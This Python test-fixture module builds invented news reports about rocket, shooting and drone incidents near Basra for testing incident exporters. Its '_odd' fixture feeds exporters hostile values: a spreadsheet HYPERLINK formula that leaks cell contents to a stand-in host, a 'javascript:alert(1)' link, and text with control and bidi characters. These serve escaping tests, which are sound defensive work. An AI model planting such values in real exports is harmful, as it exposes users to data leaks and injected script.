"""A shelf of invented reports with the incidents that they tell of: what exporters of incidents are tested with."""

from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from itertools import count

from tocsin.resolution.account import incident_of
from tocsin.testing.builders import a_method
from tocsin.vocabulary.claim import Claim, Slot, Speaker, Value
from tocsin.vocabulary.entry import Entry
from tocsin.vocabulary.incident import Incident
from tocsin.vocabulary.mention import Mention
from tocsin.vocabulary.report import Report, Source
from tocsin.vocabulary.span import cut
from tocsin.vocabulary.terms import Stance
from tocsin.vocabulary.values import Actor, Place, Target, Toll, Weapon, When, Where

SEEN = datetime(2024, 5, 9, 8, 30, tzinfo=UTC)
HARBOUR = Place("test:harbour", "Qalat Harbour", 30.0625, 48.4375, 2.0, "IQ", "Basra")
PROVINCE = Place("test:basra", "Basra", 30.4, 47.6, 90.0, "IQ", "Basra")
FORMULA = '=HYPERLINK("http://example.org/?leak="&A1,"Open")'
ODD = (
    '+1 \x1b[31m\x00 <b>&amp;</b> ]]> "quoted", a tab\t, a line\nbreak, \u202eturned\u202c, العربية\u200f, 🚀,'
    " \ufffe and half a character \ud83d"
)
"""Text with all that a format has to write with care, and that starts like a formula."""
LONG = "The harbour master spoke at length. " * 1200


@dataclass(frozen=True, slots=True)
class Said:
    """A value of a slot, in which words, and who says so."""

    slot: Slot
    value: Value
    words: str
    stance: Stance | None = None
    speaker: str = ""


@dataclass(frozen=True, slots=True)
class Shelved:
    """A report as a ledger keeps it, as far as export asks."""

    report: Report
    first_seen: datetime = SEEN
    original_digest: str = "0" * 64


@dataclass(slots=True)
class Shelf:
    """Keeps reports and entries in memory; exporters look them up here."""

    held: dict[str, Shelved] = field(default_factory=dict)
    kept: dict[str, Entry] = field(default_factory=dict)
    numbers: Iterator[int] = field(default_factory=lambda: count(1))

    def report(self, report_id: str) -> Shelved | None:
        """Return a report, or None."""
        return self.held.get(report_id)

    def entries(self, mention_ids: Iterable[str] | None = None) -> Iterator[Entry]:
        """Yield entries in the order in which they were added."""
        wanted = None if mention_ids is None else set(mention_ids)
        yield from (entry for id_, entry in self.kept.items() if wanted is None or id_ in wanted)

    def tell(
        self, said: Sequence[Said], source: Source, title: str = "", url: str = "", published: date | None = None
    ) -> Entry:
        """Add a report of which every one of `said` is a sentence; return the entry of its one mention."""
        number = next(self.numbers)
        text = "\n\n".join(f"{one.words}" + (f" ({one.speaker})" if one.speaker else "") for one in said)
        report = Report(f"story-{number}", text, source, title, published, url=url or None, language="en")
        mention = Mention(f"{report.id}#1", report.id, tuple(_claims(said, report)))
        entry = Entry(mention, number, source, published, SEEN, SEEN, report.id, title)
        self.held[report.id] = Shelved(report)
        self.kept[mention.id] = entry
        return entry


def _claims(said: Sequence[Said], report: Report) -> Iterator[Claim]:
    start = 0
    for one in said:
        start = report.text.index(one.words, start)
        span = cut(report, start, start + len(one.words))
        end = start + len(one.words) + 2
        speaker = Speaker(one.speaker, cut(report, end, end + len(one.speaker))) if one.speaker else None
        yield Claim(one.slot, one.value, span, a_method(), speaker, one.stance)


def bare(kind: str = "other", status: str = "reported", words: str = "Something happened") -> list[Said]:
    """Return what a mention cannot be without."""
    return [Said("kind", kind, words), Said("status", status, words), Said("trigger", words, words)]


def a_shelf() -> tuple[Shelf, list[Incident]]:
    """Return a shelf and its incidents.

    In order: one with every slot filled, told by two sources that disagree on the toll; one of which nothing is known;
    one known to a province, a month and an upper bound; one of odd text; one of endless text; a threat.
    """
    shelf = Shelf()
    groups = [_full(shelf), _unknown(shelf), _vague(shelf), _odd(shelf), _endless(shelf), _threat(shelf)]
    return shelf, [incident_of(group, ()) for group in groups]


def _full(shelf: Shelf) -> list[Entry]:
    day = When(date(2024, 5, 6), date(2024, 5, 6), "day")
    said = [
        *bare("rocket", "claimed", "Two rockets struck"),
        Said("count", 1, "one attack"),
        Said("when", day, "on Monday"),
        Said("where", Where("the harbour", kind="facility", place=HARBOUR), "the harbour"),
        Said("where", Where("Basra", "near", place=PROVINCE), "near Basra"),
        Said("weapon", Weapon("rocket", 2, 107.0), "two 107mm rockets"),
        Said("target", Target("a clinic", "hospital"), "a clinic"),
        Said("target", Target("two nurses", "civilian", "human", 2), "two nurses"),
        Said("perpetrator", Actor("The Dawn Brigade"), "The Dawn Brigade", "claims", "a statement"),
        Said("perpetrator", Actor("the Harbour League"), "the Harbour League", "denies"),
        Said("killed", Toll(3, 3), "three dead", speaker="a doctor"),
        Said("wounded", Toll(12, None), "at least a dozen hurt"),
        Said("abducted", Toll(0, 0), "nobody taken"),
        Said("damage", "two burnt cars", "two burnt cars"),
        Said("denial", "no rocket fell", "no rocket fell", speaker="the governor"),
        Said("evidence", "Two rockets struck a clinic at the harbour.", "Two rockets struck a clinic at the harbour."),
    ]
    courier = Source("The Gulf Courier", "IQ", "local", "B", "en")
    wire = Source("Levant Wire", "LB", "wire", "C")
    first = shelf.tell(said, courier, "Rockets hit the harbour", "https://courier.example/1?a=1&b=2", date(2024, 5, 8))
    again = [one for one in said if one.slot not in {"killed", "abducted", "denial", "count"}]
    again += [Said("killed", Toll(5, 5), "five dead")]
    second = shelf.tell(again, wire, "Five die; harbour burns", "https://wire.example/2;x", date(2024, 5, 7))
    return [first, second]


def _unknown(shelf: Shelf) -> list[Entry]:
    return [shelf.tell(bare(), Source("A leaflet"))]


def _vague(shelf: Shelf) -> list[Entry]:
    march = When(date(2023, 3, 1), date(2023, 3, 31), "month")
    said = [
        *bare("shooting", "foiled", "shots were to be fired"),
        Said("count", 4, "four times"),
        Said("when", march, "in March last year"),
        Said("where", Where("Basra province", kind="province", place=PROVINCE), "Basra province"),
        Said("target", Target("the guards", "police", "human"), "the guards"),
        Said("perpetrator", Actor("gunmen", "unknown"), "gunmen", "suspected", "police"),
        Said("killed", Toll(None, 6), "up to six dead"),
    ]
    return [shelf.tell(said, Source("The Ledger of Basra", "IQ"), "Shots", published=date(2024, 3, 2))]


def _odd(shelf: Shelf) -> list[Entry]:
    said = [
        *bare("ied", "reported", ODD),
        Said("where", Where(FORMULA, kind="city"), FORMULA),
        Said("perpetrator", Actor(FORMULA), FORMULA, "blamed", ODD),
        Said("target", Target(ODD), ODD),
        Said("damage", ODD, ODD),
    ]
    return [shelf.tell(said, Source(ODD), ODD, "javascript:alert(1)")]


def _endless(shelf: Shelf) -> list[Entry]:
    said = [*bare("drone", "confirmed", "A drone fell"), Said("evidence", LONG, LONG)]
    return [shelf.tell(said, Source("The Archive"), "Minutes", published=date(2024, 1, 1))]


def _threat(shelf: Shelf) -> list[Entry]:
    return [shelf.tell(bare("missile", "threatened", "missiles will fly"), Source("A channel", kind="party"))]
